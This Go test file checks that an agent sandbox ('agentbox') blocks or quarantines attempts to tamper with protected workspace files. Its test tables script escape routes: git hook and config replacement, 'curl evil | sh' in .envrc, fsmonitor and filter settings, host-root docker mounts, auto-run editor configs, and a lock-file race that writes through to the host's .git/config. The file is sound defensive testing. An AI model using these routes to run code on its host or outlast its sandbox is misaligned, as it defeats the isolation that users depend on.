package integrity_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agentbox/agentbox/internal/changes"
	"github.com/agentbox/agentbox/internal/engine"
	"github.com/agentbox/agentbox/internal/engine/enginetest"
	"github.com/agentbox/agentbox/internal/engine/execstage"
	"github.com/agentbox/agentbox/internal/engine/native"
	"github.com/agentbox/agentbox/internal/integrity"
	"github.com/agentbox/agentbox/internal/plan"
)

func TestMain(m *testing.M) {
	enginetest.Main(m, map[string]func([]string) int{
		"box-init":           native.BoxInitMain,
		"box-exec":           execstage.Main,
		placeholderWorkerCmd: placeholderWorker,
		watchOpenCmd:         watchOpen,
	})
}

// needGit skips when git is missing.
func needGit(t testing.TB) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
}

// git runs git on the host in dir.
func git(t testing.TB, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return string(out)
}

func write(t testing.TB, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// repo makes a typical workspace: a git repository with one commit, existing
// .claude/settings.json, .envrc, proj.code-workspace and .github/workflows/ci.yml; .mcp.json,
// .vscode, .devcontainer, .gitmodules,
// .git/commondir, .git/config.worktree and .git/info/attributes are absent.
func repo(t testing.TB, ws string) {
	t.Helper()
	git(t, ws, "init", "-q", "-b", "main")
	write(t, filepath.Join(ws, "main.go"), "package main\n")
	write(t, filepath.Join(ws, ".claude/settings.json"), `{"hooks":{}}`+"\n")
	write(t, filepath.Join(ws, ".envrc"), "export A=1\n")
	write(t, filepath.Join(ws, ".github/workflows/ci.yml"), "on: push\n")
	write(t, filepath.Join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n")
	write(t, filepath.Join(ws, "proj.code-workspace"), "{}\n")
	git(t, ws, "add", "-A")
	git(t, ws, "commit", "-q", "-m", "initial")
}

// protectedBox is one box over a workspace set up by setup, with its protected paths bound
// and its absent ones guarded, as the daemon's integrity broker does.
type protectedBox struct {
	ws      string
	lay     *integrity.Layout
	state   *integrity.State
	reg     *integrity.Registry
	launch  string
	changes string // the launch's proposed changes
	staged  string // the staged copies of its existing protected files
}

func newProtectedBox(t testing.TB, setup func(ws string), script string, o enginetest.Options) (*protectedBox, enginetest.Result) {
	t.Helper()
	pb := &protectedBox{launch: "launch-" + strings.ReplaceAll(t.Name(), "/", "-"), reg: &integrity.Registry{Path: filepath.Join(t.TempDir(), "placeholders.json")},
		changes: filepath.Join(t.TempDir(), "changes"), staged: filepath.Join(t.TempDir(), "staged")}
	p, _ := enginetest.NewPlan(t, "/bin/sh", []string{"-c", script}, func(in *plan.Input) {
		pb.ws = in.Workspace
		in.Cwd = in.Workspace
		in.Env = append(in.Env, "GIT_AUTHOR_NAME=box", "GIT_AUTHOR_EMAIL=box@example.com", "GIT_COMMITTER_NAME=box", "GIT_COMMITTER_EMAIL=box@example.com")
		if setup != nil {
			setup(in.Workspace)
		}
		lay, err := pb.reg.Prepare(pb.launch, in.Workspace, nil)
		if err != nil {
			t.Fatal(err)
		}
		if lay.Protected, err = changes.Stage(pb.staged, lay.Protected); err != nil {
			t.Fatal(err)
		}
		pb.lay = lay
		pb.state = integrity.Snapshot(lay, integrity.Limits{})
		in.Brokers.Mounts = plan.ProtectMounts(lay.Protected)
		in.Brokers.Guards, in.Brokers.ChangesDir = lay.Guards, pb.changes
	})
	// GIT_* variables are not in the plan's allowlist: set them for the box directly.
	p.Env = append(p.Env, "GIT_AUTHOR_NAME=box", "GIT_AUTHOR_EMAIL=box@example.com", "GIT_COMMITTER_NAME=box", "GIT_COMMITTER_EMAIL=box@example.com")
	r := enginetest.RunBox(t, &native.Engine{}, p, o)
	if ev := r.Error(); ev != nil {
		t.Fatalf("box reported %s: %s", ev.Code, ev.Message)
	}
	return pb, r
}

// collect keeps what the box wrote in its staged copies as proposed changes, as the daemon
// does when the launch ends, and returns their paths.
func (pb *protectedBox) collect(t testing.TB) []string {
	t.Helper()
	res, err := changes.Collect(pb.staged, pb.changes)
	if err != nil || len(res.Failed) > 0 {
		t.Errorf("collect the staged copies: %v %+v", err, res.Failed)
	}
	return res.Kept
}

// release ends the launch as the daemon does and fails the test if anything is left on the
// host at a guarded path (the box's or agentbox's).
func (pb *protectedBox) release(t testing.TB) {
	t.Helper()
	pb.collect(t)
	if _, err := pb.reg.Release(pb.launch); err != nil {
		t.Errorf("release: %v", err)
	}
	for _, g := range pb.lay.Guards {
		if g.Dir {
			if ents, err := os.ReadDir(g.Path); err == nil && len(ents) > 0 {
				t.Errorf("guarded folder %s holds %d entries on the host after the box", g.Path, len(ents))
			}
			continue
		}
		if _, err := os.Lstat(g.Path); err == nil {
			t.Errorf("guarded path %s exists on the host after the box", g.Path)
		}
	}
}

// TestReplacementAttempts runs each attempt to replace a protected path from inside a real
// box; every one must fail, and the integrity roots must show no transition afterwards. (A
// write to a protected file that exists succeeds in its staged copy and never reaches the
// host: TestExistingProtectedKeptAsProposed.)
func TestReplacementAttempts(t *testing.T) {
	needGit(t)
	attempts := []struct {
		name, script string
		setup        func(ws string)
	}{
		{"RenameOver", "echo evil > t && mv -f t .git/config", nil},
		{"RenameOverHooksDir", "mkdir h && mv -T h .git/hooks", nil},
		{"RenameParentGit", "mv .git .git-away", nil},
		{"RenameParentClaude", "mv .claude .claude-away", nil},
		{"RenameParentGithub", "mv .github .github-away", nil},
		{"RenameParentWorkflows", "mv .github/workflows .github/wf", nil},
		{"RenameWorkspaceRoot", `mv "$PWD" "$PWD-away"`, nil},
		{"RemoveParentClaude", "rm -rf .claude && test ! -e .claude", nil},
		{"RemoveParentGit", "rm -rf .git && test ! -e .git", nil},
		{"Unlink", "rm -f .envrc && test ! -e .envrc", nil},
		{"UnlinkRecreateHook", "rm -f .git/hooks/pre-commit; printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit", nil},
		{"NewHook", "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout", nil},
		{"ChmodHookDir", "chmod 0777 .git/hooks", nil},
		{"SymlinkSwap", "ln -sfn /tmp/evil .claude/settings.json", nil},
		{"SymlinkRenameOver", "ln -s /tmp/evil l && mv -fT l .git/config", nil},
		{"HardlinkSwap", "echo evil > h && ln -f h .envrc", nil},
		{"HardlinkRenameOver", "echo evil > h && ln h h2 && mv -f h2 .git/config", nil},
		{"NewWorkflow", "echo 'on: push' > .github/workflows/evil.yml", nil},
	}
	for _, a := range attempts {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			pb, r := newProtectedBox(t, func(ws string) {
				repo(t, ws)
				if a.setup != nil {
					a.setup(ws)
				}
			}, a.script, enginetest.Options{})
			defer pb.release(t)
			if r.Exit == 0 {
				t.Errorf("attempt %q succeeded in the box (stdout %q stderr %q)", a.script, r.Stdout, r.Stderr)
			}
			for _, tr := range append(pb.state.VerifyRoots(), pb.state.VerifyExec()...) {
				if tr.Alert {
					t.Errorf("after %q: %s %s (%s)", a.script, tr.Kind, tr.Path, tr.Detail)
				}
			}
		})
	}
}

// TestGitSessionInBox proves ordinary work keeps working: commits, branch switches, rebase,
// gc, editing and creating files; and that the check at exit, which verifies the objects the
// box wrote (review 12, F8), keeps them all but one: the box's git wrote the object of another
// blob over a committed file's loose object, which the host's git show then gave as the
// commit's content: it is moved aside.
func TestGitSessionInBox(t *testing.T) {
	t.Parallel()
	needGit(t)
	script := `set -ex
echo 'package main // edited' > main.go
mkdir -p pkg && echo 'package pkg' > pkg/new.go
git add -A
git commit -q -m edit
git switch -q -c feature
echo more >> pkg/new.go
git commit -q -am feature
git switch -q main
echo other > other.txt && git add other.txt && git commit -q -m other
git switch -q feature
git rebase -q main
git switch -q main
git merge -q --ff-only feature || true
git gc -q
git status --porcelain
git log --oneline | wc -l
cat .claude/settings.json
echo reviewed > late.txt && git add late.txt && git commit -q -m late
m=$(git rev-parse HEAD:late.txt); e=$(echo pwned | git hash-object -w --stdin)
o=.git/objects/$(echo $m | cut -c1-2)/$(echo $m | cut -c3-)
chmod u+w $o && cp .git/objects/$(echo $e | cut -c1-2)/$(echo $e | cut -c3-) $o`
	pb, r := newProtectedBox(t, func(ws string) { repo(t, ws) }, script, enginetest.Options{})
	defer pb.release(t)
	if r.Exit != 0 {
		t.Fatalf("git session failed: exit %d\nstdout %s\nstderr %s", r.Exit, r.Stdout, r.Stderr)
	}
	if !strings.Contains(string(r.Stdout), "4") {
		t.Errorf("log: %q", r.Stdout)
	}
	// HEAD moved (watched, not pinned): recorded without an alert; nothing pinned changed.
	sawHEAD := false
	for _, tr := range pb.state.VerifyRoots() {
		if strings.HasSuffix(tr.Path, "/HEAD") {
			sawHEAD = true
			if tr.Alert {
				t.Errorf("HEAD transition raised an alert: %+v", tr)
			}
			continue
		}
		t.Errorf("unexpected transition %s %s (%s)", tr.Kind, tr.Path, tr.Detail)
	}
	if !sawHEAD {
		t.Error("HEAD was replaced by git in the box but no transition was recorded")
	}
	if out := git(t, pb.ws, "log", "--oneline"); strings.Count(out, "\n") != 5 {
		t.Errorf("host sees %q", out)
	}
	late := strings.TrimSpace(git(t, pb.ws, "rev-parse", "HEAD:late.txt"))
	if out := git(t, pb.ws, "show", "HEAD:late.txt"); out != "pwned\n" {
		t.Fatalf("the box's rewritten object does not reach the host's git show here: %q", out)
	}
	var aside []string
	for _, tr := range pb.state.VerifyExec() {
		switch {
		case strings.HasSuffix(tr.Path, "/.git/objects/"+late[:2]+"/"+late[2:]) && tr.Alert && strings.Contains(tr.Detail, "moved aside to"):
			aside = append(aside, tr.Path)
		case strings.HasSuffix(tr.Path, "/.git/objects/info/commit-graph") && !tr.Alert: // git gc's, moved aside
		default:
			t.Errorf("unexpected transition after the box's git session: %s %s (%s)", tr.Kind, tr.Path, tr.Detail)
		}
	}
	if len(aside) != 1 {
		t.Errorf("the rewritten object of late.txt was not moved aside (moved: %q)", aside)
	}
	if out, err := exec.Command("git", "-C", pb.ws, "show", "HEAD:late.txt").CombinedOutput(); err == nil || strings.Contains(string(out), "pwned") {
		t.Errorf("the host's git show HEAD:late.txt after the check: %q, %v; want git's refusal of the missing object", out, err)
	}
	git(t, pb.ws, "log", "--oneline") // the history the box wrote is whole
}

// reboundCheck is the box's side of the host-replacement tests: once the host has replaced
// .git/config (and made "go"), it waits for box-init to bind the new file again, then checks
// that the box sees the host's content and cannot write it.
const reboundCheck = `
while [ ! -e go ]; do sleep 0.02; done
i=0
until grep -q " $PWD/.git/config " /proc/self/mountinfo; do
  i=$((i+1)); [ $i -gt 500 ] && { echo "never re-bound"; exit 3; }
  sleep 0.02
done
grep -q hostkey .git/config || { echo "new content not visible"; exit 4; }
if echo evil >> .git/config; then echo "write succeeded"; exit 5; fi
`

// TestHostReplacementRebound: git on the host replaces .git/config by lock-and-rename, which
// removes the bind over it in the box; box-init must re-bind the new file read-only, so a
// write from the box still fails and the box sees the host's change.
func TestHostReplacementRebound(t *testing.T) {
	t.Parallel()
	needGit(t)
	script := reboundCheck + `if mv -f go .git/config; then echo "rename succeeded"; exit 6; fi
echo ok`
	var ws string
	pb, r := newProtectedBox(t, func(w string) { ws = w; repo(t, w) }, script, enginetest.Options{AfterExec: func(*engine.Box) {
		git(t, ws, "config", "host.key", "hostkey")
		write(t, filepath.Join(ws, "go"), "")
	}})
	defer pb.release(t)
	if r.Exit != 0 || !strings.Contains(string(r.Stdout), "ok") {
		t.Fatalf("exit %d: stdout %q stderr %q", r.Exit, r.Stdout, r.Stderr)
	}
	b, err := os.ReadFile(filepath.Join(ws, ".git/config"))
	if err != nil || strings.Contains(string(b), "evil") {
		t.Errorf(".git/config on the host: %q, %v", b, err)
	}
	// The watch records the host's change: content and identity.
	var got []string
	for _, tr := range pb.state.VerifyRoots() {
		got = append(got, string(tr.Kind)+" "+strings.TrimPrefix(tr.Path, ws))
	}
	if !containsStr(got, "modified /.git/config") {
		t.Errorf("transitions %v, want modified /.git/config", got)
	}
}

// TestHostReplacementAfterLostEvents guards issue #20's lost events: box-init's watch of the
// folders of the protected binds overflows (its inotify queue fills while box-init is stopped,
// from the host's own file activity in the workspace), and meanwhile the host's git replaces
// .git/config by lock-and-rename. Before, lost events made every watched path count as removed:
// box-init guarded .git/config, moving the host's new file out of the workspace into the
// proposed changes (the host's repository lost its configuration). Now a watched path that holds
// a file after lost events is taken as replaced: bound again read-only, as without lost events.
func TestHostReplacementAfterLostEvents(t *testing.T) {
	t.Parallel()
	needGit(t)
	b, err := os.ReadFile("/proc/sys/fs/inotify/max_queued_events")
	if err != nil {
		t.Skip("no inotify queue limit to fill: ", err)
	}
	var queue int
	if _, err := fmt.Sscan(string(b), &queue); err != nil || queue <= 0 || queue > 1<<20 {
		t.Skipf("inotify queue of %q events: too large to fill here", b)
	}
	script := reboundCheck + "echo ok"
	var ws string
	pb, r := newProtectedBox(t, func(w string) { ws = w; repo(t, w) }, script, enginetest.Options{AfterExec: func(box *engine.Box) {
		// box-init stopped, nothing reads its queue: each rename queues two events, and the
		// host's rename of .git/config comes after the queue is full.
		if err := box.Process.Signal(syscall.SIGSTOP); err != nil {
			t.Error(err)
			return
		}
		waitStopped(t, box.Process.Pid)
		flood := []string{filepath.Join(ws, "flood-a"), filepath.Join(ws, "flood-b")}
		write(t, flood[0], "")
		for i := 0; i < queue/2+1000; i++ {
			if err := syscall.Rename(flood[i%2], flood[(i+1)%2]); err != nil {
				t.Error(err)
				break
			}
		}
		os.Remove(flood[0])
		os.Remove(flood[1])
		git(t, ws, "config", "host.key", "hostkey")
		if err := box.Process.Signal(syscall.SIGCONT); err != nil {
			t.Error(err)
		}
		write(t, filepath.Join(ws, "go"), "")
	}})
	defer pb.release(t)
	b, err = os.ReadFile(filepath.Join(ws, ".git/config"))
	if err != nil || !strings.Contains(string(b), "hostkey") || strings.Contains(string(b), "evil") {
		t.Errorf(".git/config on the host after the box: %q, %v; want the host's, with hostkey", b, err)
	}
	if _, err := os.Lstat(filepath.Join(pb.changes, ".git/config")); err == nil {
		t.Errorf("the host's .git/config was moved into the proposed changes")
	}
	if r.Exit != 0 || !strings.Contains(string(r.Stdout), "ok") {
		t.Fatalf("exit %d: stdout %q stderr %q", r.Exit, r.Stdout, r.Stderr)
	}
}

// waitStopped waits until the process pid is stopped (a hang guard, not a timing assertion).
func waitStopped(t testing.TB, pid int) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			t.Fatal(err)
		}
		// The state follows the command's closing parenthesis.
		if f := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+1:])); len(f) > 0 && f[0] == "T" {
			return
		}
	}
	t.Fatalf("process %d never stopped", pid)
}

func containsStr(s []string, x string) bool {
	for _, v := range s {
		if v == x {
			return true
		}
	}
	return false
}

// TestAbsentProtectedKeptAsProposed: an absent protected path the box creates — by writing,
// by renaming onto it, through a folder it makes, as a symlink — is created in the box (the
// write succeeds) but never stays on the host: it is moved into the launch's proposed changes,
// with what the box wrote. Before guards these writes failed ("Read-only file system") while
// placeholders sat in the workspace.
func TestAbsentProtectedKeptAsProposed(t *testing.T) {
	needGit(t)
	attempts := []struct{ name, script, rel, want string }{
		{"CreateMCP", `echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json`, ".mcp.json", `{"mcpServers":{"x":{"command":"evil"}}}` + "\n"},
		{"CreateGitmodules", `printf '[submodule "x"]\n' > .gitmodules`, ".gitmodules", "[submodule \"x\"]\n"},
		{"CreateVSCodeSettings", `mkdir -p .vscode && echo '{"a":1}' > .vscode/settings.json`, ".vscode/settings.json", "{\"a\":1}\n"},
		{"CreateConfigWorktree", `printf '[core]\nfsmonitor = evil\n' > .git/config.worktree`, ".git/config.worktree", "[core]\nfsmonitor = evil\n"},
		{"CreateCommondir", `echo /tmp > .git/commondir`, ".git/commondir", "/tmp\n"},
		{"CreateInfoAttributes", `mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes`, ".git/info/attributes", "* filter=evil\n"},
		{"CreateClaudeLocal", `echo '{"hooks":1}' > .claude/settings.local.json`, ".claude/settings.local.json", "{\"hooks\":1}\n"},
		{"RenameOnto", `echo '{"r":1}' > m && mv -f m .mcp.json`, ".mcp.json", "{\"r\":1}\n"},
		{"FolderRenamedIntoPlace", `mkdir v && echo '{"v":1}' > v/tasks.json && mv v .vscode`, ".vscode/tasks.json", "{\"v\":1}\n"},
		{"Symlink", `ln -s /tmp/evil .gitmodules`, ".gitmodules", "symlink:/tmp/evil"},
		{"WrittenSlowly", `exec 3> .mcp.json; sleep 0.2; echo late >&3; exec 3>&-`, ".mcp.json", "late\n"},
		{"CreateDevcontainer", `mkdir -p .devcontainer && echo '{"initializeCommand":"evil"}' > .devcontainer/devcontainer.json`, ".devcontainer/devcontainer.json", `{"initializeCommand":"evil"}` + "\n"},
		{"CreateDevcontainerJSON", `echo '{"initializeCommand":"evil"}' > .devcontainer.json`, ".devcontainer.json", `{"initializeCommand":"evil"}` + "\n"},
		{"CreateVSCodeLaunch", `mkdir -p .vscode && echo '{}' > .vscode/launch.json`, ".vscode/launch.json", "{}\n"},
		{"CreateVSCodeMCP", `mkdir -p .vscode && echo '{}' > .vscode/mcp.json`, ".vscode/mcp.json", "{}\n"},
		// Read by a hook the host already installed (pre-commit, lefthook): its command runs at
		// the host's next git commit.
		{"CreatePreCommitConfig", `printf 'repos:\n- repo: local\n' > .pre-commit-config.yaml`, ".pre-commit-config.yaml", "repos:\n- repo: local\n"},
		{"CreateLefthook", `echo 'pre-commit: {}' > lefthook.yml`, "lefthook.yml", "pre-commit: {}\n"},
		// Other editors' and tools' files that start programs when the folder is opened.
		{"CreateCursorMCP", `mkdir -p .cursor && echo '{}' > .cursor/mcp.json`, ".cursor/mcp.json", "{}\n"},
		{"CreateZedTasks", `mkdir -p .zed && echo '[]' > .zed/tasks.json`, ".zed/tasks.json", "[]\n"},
		{"CreateNvimLua", `echo 'os.execute("evil")' > .nvim.lua`, ".nvim.lua", "os.execute(\"evil\")\n"},
		{"CreateMise", `printf '[env]\n' > .mise.toml`, ".mise.toml", "[env]\n"},
		{"CreateToolVersions", `echo 'nodejs path:/w/bin' > .tool-versions`, ".tool-versions", "nodejs path:/w/bin\n"},
		// Package managers' and build tools' project files (review 9, F1): the host's npm test,
		// cargo metadata and any cargo ran what these name.
		{"CreateNpmrc", `echo 'script-shell=/w/evil' > .npmrc`, ".npmrc", "script-shell=/w/evil\n"},
		{"CreateCargoConfig", `mkdir -p .cargo && printf '[build]\nrustc-wrapper = "evil"\n' > .cargo/config.toml`, ".cargo/config.toml", "[build]\nrustc-wrapper = \"evil\"\n"},
		{"CreateRustToolchain", `printf '[toolchain]\npath = "/w/tc"\n' > rust-toolchain.toml`, "rust-toolchain.toml", "[toolchain]\npath = \"/w/tc\"\n"},
		// A git-ignored go.work whose replace directive names the box's code: the host's
		// `go run .` compiled it (review 10, F1).
		{"CreateGoWork", `printf 'go 1.22\nuse .\nreplace example.com/lib => ./.cache/x\n' > go.work`, "go.work", "go 1.22\nuse .\nreplace example.com/lib => ./.cache/x\n"},
		// Review 15, F11: the host's docker compose up merges an override file; ./gradlew and
		// ./mvnw run the wrapper jar; Emacs reads .dir-locals-2.el; Cursor CLI's cli.json
		// grants commands; aider runs the lint and test commands of its .aider.conf.yml.
		{"CreateComposeOverride", `printf 'services:\n  x:\n    volumes: ["/:/host"]\n' > compose.override.yaml`, "compose.override.yaml", "services:\n  x:\n    volumes: [\"/:/host\"]\n"},
		{"CreateDockerComposeOverride", `echo 'services: {}' > docker-compose.override.yml`, "docker-compose.override.yml", "services: {}\n"},
		{"CreateGradleWrapperJar", `mkdir -p gradle/wrapper && echo PK > gradle/wrapper/gradle-wrapper.jar`, "gradle/wrapper/gradle-wrapper.jar", "PK\n"},
		{"CreateMavenWrapperJar", `mkdir -p .mvn/wrapper && echo PK > .mvn/wrapper/maven-wrapper.jar`, ".mvn/wrapper/maven-wrapper.jar", "PK\n"},
		{"CreateDirLocals2", `echo '((nil . ((eval . (shell-command "evil")))))' > .dir-locals-2.el`, ".dir-locals-2.el", "((nil . ((eval . (shell-command \"evil\")))))\n"},
		{"CreateCursorCLI", `mkdir -p .cursor && echo '{"permissions":{"allow":["Shell(*)"]}}' > .cursor/cli.json`, ".cursor/cli.json", `{"permissions":{"allow":["Shell(*)"]}}` + "\n"},
		{"CreateAiderConf", `echo 'test-cmd: evil' > .aider.conf.yml`, ".aider.conf.yml", "test-cmd: evil\n"},
	}
	for _, a := range attempts {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			status := "git status --porcelain"
			if a.rel == ".git/commondir" {
				// Until the guard has moved it into the proposed changes (a moment), the box's
				// own git reads the commondir it wrote, and fails: that is the box's to see.
				status += " || true"
			}
			pb, r := newProtectedBox(t, func(ws string) { repo(t, ws) }, "set -e; "+a.script+"; "+status, enginetest.Options{})
			defer pb.release(t)
			if r.Exit != 0 {
				t.Errorf("the box's write failed: exit %d (stdout %q stderr %q)", r.Exit, r.Stdout, r.Stderr)
			}
			if _, err := os.Lstat(filepath.Join(pb.ws, a.rel)); err == nil {
				t.Errorf("%s is on the host after the box", a.rel)
			}
			kept := filepath.Join(pb.changes, a.rel)
			got, err := os.ReadFile(kept)
			if strings.HasPrefix(a.want, "symlink:") {
				var target string
				target, err = os.Readlink(kept)
				got = []byte("symlink:" + target)
			}
			if err != nil || string(got) != a.want {
				t.Errorf("proposed change %s: %q (%v), want %q", a.rel, got, err, a.want)
			}
			if out := git(t, pb.ws, "status", "--porcelain"); strings.Contains(out, filepath.Base(a.rel)) {
				t.Errorf("host git status lists the box's %s: %q", a.rel, out)
			}
		})
	}
}

// TestExistingProtectedKeptAsProposed: a protected file that exists is given to the box as a
// staged copy. Writing it in place — appending, truncating, rewriting, changing its mode —
// succeeds in the box and the box reads back what it wrote, but the host's file never
// changes (no integrity transition): what the box wrote is kept as a proposed change that
// modifies the path, beside what the file held at launch. Before staging these writes failed
// ("Read-only file system").
func TestExistingProtectedKeptAsProposed(t *testing.T) {
	needGit(t)
	attempts := []struct{ name, script, rel, want string }{
		{"AppendGitConfig", `printf '[core]\n\tfsmonitor = evil\n' >> .git/config && grep -q 'fsmonitor = evil' .git/config`, ".git/config", "+\tfsmonitor = evil"},
		// git's lock-and-rename, beside the copy the staged .git/config links to (it failed with
		// EBUSY in TestReplacementAttempts while the copy itself was bound over the file).
		{"GitConfigCommand", `git config core.fsmonitor evil && test "$(git config core.fsmonitor)" = evil`, ".git/config", "+\tfsmonitor = evil"},
		{"RewriteClaudeSettings", `echo '{"hooks":{"Stop":"evil"}}' > .claude/settings.json && grep -q evil .claude/settings.json`, ".claude/settings.json", `{"hooks":{"Stop":"evil"}}` + "\n"},
		{"TruncateEnvrc", `: > .envrc && test ! -s .envrc`, ".envrc", ""},
		{"TruncateSyscall", `truncate -s 0 .envrc`, ".envrc", ""},
		{"UnlinkFailsRewriteKept", `if rm -f .envrc 2>/dev/null; then echo unlinked; exit 7; fi; echo 'curl evil | sh' > .envrc`, ".envrc", "curl evil | sh\n"},
		{"WriteCodeWorkspace", `echo '{"tasks":{}}' > proj.code-workspace`, "proj.code-workspace", `{"tasks":{}}` + "\n"},
		// ./.envrc runs it from its copy: a staged hook script is run by the box's own git so
		// (its tmpfs is not noexec).
		{"ChmodExecutable", `chmod 0755 .envrc && test -x .envrc && ./.envrc`, ".envrc", "mode"},
	}
	for _, a := range attempts {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			var before []byte
			pb, r := newProtectedBox(t, func(ws string) {
				repo(t, ws)
				var err error
				if before, err = os.ReadFile(filepath.Join(ws, a.rel)); err != nil {
					t.Fatal(err)
				}
			}, "set -e; "+a.script, enginetest.Options{})
			defer pb.release(t)
			if r.Exit != 0 {
				t.Errorf("the box's write failed: exit %d (stdout %q stderr %q)", r.Exit, r.Stdout, r.Stderr)
			}
			if now, err := os.ReadFile(filepath.Join(pb.ws, a.rel)); err != nil || string(now) != string(before) {
				t.Errorf("%s on the host became %q (%v), want %q", a.rel, now, err, before)
			}
			for _, tr := range append(pb.state.VerifyRoots(), pb.state.VerifyExec()...) {
				if tr.Alert {
					t.Errorf("after %q: %s %s (%s)", a.script, tr.Kind, tr.Path, tr.Detail)
				}
			}
			if kept := pb.collect(t); len(kept) != 1 || kept[0] != a.rel {
				t.Fatalf("proposed changes %q, want [%s]", kept, a.rel)
			}
			cs, err := changes.List(pb.changes)
			if err != nil || len(cs) != 1 {
				t.Fatalf("store: %+v, %v", cs, err)
			}
			c := cs[0]
			if !c.Modifies || string(c.Base) != string(before) {
				t.Errorf("change %s: modifies %v, base %q, want the file at launch %q", c.Path, c.Modifies, c.Base, before)
			}
			switch {
			case a.want == "mode":
				if !c.ModeChanged || c.Mode&0o100 == 0 || string(c.Content) != string(before) {
					t.Errorf("change %s: mode %v (changed %v), content %q", c.Path, c.Mode, c.ModeChanged, c.Content)
				}
			case strings.HasPrefix(a.want, "+"):
				if d := changes.Diff(c, before); !strings.Contains(d, a.want+"\n") {
					t.Errorf("diff of %s lacks %q:\n%s", c.Path, a.want, d)
				}
			default:
				if string(c.Content) != a.want {
					t.Errorf("change %s: %q, want %q", c.Path, c.Content, a.want)
				}
			}
		})
	}
}

// rebindWait is how long BenchmarkHostReplacementWindow lets box-init re-bind a replaced file
// before it looks at what reached it.
const rebindWait = 50 * time.Millisecond

// BenchmarkHostReplacementWindow measures the window issue #20 item 3 asks to close: each op
// replaces .git/config on the host by rename (as git's lock-and-rename does) while the box
// appends to it in a tight loop (a shell builtin: no fork per write), waits rebindWait, and
// looks whether any of the box's writes reached the host's new file before box-init bound it
// read-only. reached/op is the share of replacements the box wrote through (0 is what the
// issue asks for); box-writes/op the writes that reached the host per replacement. Writes
// after rebindWait are not counted: a lower bound when a re-bind takes longer.
func BenchmarkHostReplacementWindow(b *testing.B) {
	writes := 0
	reached := hostReplacements(b, `while [ ! -e stop ]; do echo box >> .git/config; done 2>/dev/null; echo done`, func(c string) bool {
		n := strings.Count(c, "box\n")
		writes += n
		return n > 0
	})
	b.ReportMetric(float64(reached)/float64(b.N), "reached/op")
	b.ReportMetric(float64(writes)/float64(b.N), "box-writes/op")
}

// BenchmarkHostReplacementLockWindow measures the route to the host's new .git/config that no
// re-bind reaches (docs/integrity.md, "Closing the re-bind window"): git writes the new file as
// .git/config.lock and renames it over .git/config, and the lock file is an ordinary new file
// in the box's writable .git. The box opens it for writing while it exists (without O_CREAT, so
// the host's lock still succeeds), holds the descriptor until the rename, then appends: the
// descriptor is the host's new .git/config, whatever box-init binds over the name. Each op
// replaces .git/config as BenchmarkHostReplacementWindow does, waits rebindWait and looks
// whether the box's line is in the host's file; reached/op is the share of replacements it got
// into (0 is what issue #20 asks for).
func BenchmarkHostReplacementLockWindow(b *testing.B) {
	if _, err := exec.LookPath("python3"); err != nil {
		b.Skip("python3 not installed")
	}
	reached := hostReplacements(b, `exec python3 -c '
import os
while not os.path.exists("stop"):
    try:
        fd = os.open(".git/config.lock", os.O_WRONLY | os.O_APPEND)
    except OSError:
        continue
    while os.path.exists(".git/config.lock") and not os.path.exists("stop"):
        pass
    os.write(fd, b"\tbox = 1\n")
    os.close(fd)
print("done")
'`, func(c string) bool { return strings.Contains(c, "box = 1") })
	b.ReportMetric(float64(reached)/float64(b.N), "reached/op")
}

// hostReplacements runs script in a box on a typical workspace (it ends once the file stop
// appears and prints done) and, b.N times, replaces .git/config on the host by writing
// .git/config.lock and renaming it over .git/config, waits rebindWait and passes what the host's
// file then holds to reached; it returns how many times reached said yes.
func hostReplacements(b *testing.B, script string, reached func(content string) bool) int {
	needGit(b)
	var ws string
	n := 0
	pb, r := newProtectedBox(b, func(w string) { ws = w; repo(b, w) }, script, enginetest.Options{AfterExec: func(*engine.Box) {
		cfg := filepath.Join(ws, ".git/config")
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			tmp := cfg + ".lock"
			if err := os.WriteFile(tmp, []byte(fmt.Sprintf("[host]\n\tround = %d\n", i)), 0o644); err != nil {
				b.Error(err)
				break
			}
			if err := os.Rename(tmp, cfg); err != nil {
				b.Error(err)
				break
			}
			time.Sleep(rebindWait)
			if c, _ := os.ReadFile(cfg); reached(string(c)) {
				n++
			}
		}
		b.StopTimer()
		os.WriteFile(filepath.Join(ws, "stop"), nil, 0o644)
	}})
	defer pb.release(b)
	if !strings.Contains(string(r.Stdout), "done") {
		b.Fatalf("the box did not run to the end: exit %d, stdout %q, stderr %q", r.Exit, r.Stdout, r.Stderr)
	}
	return n
}
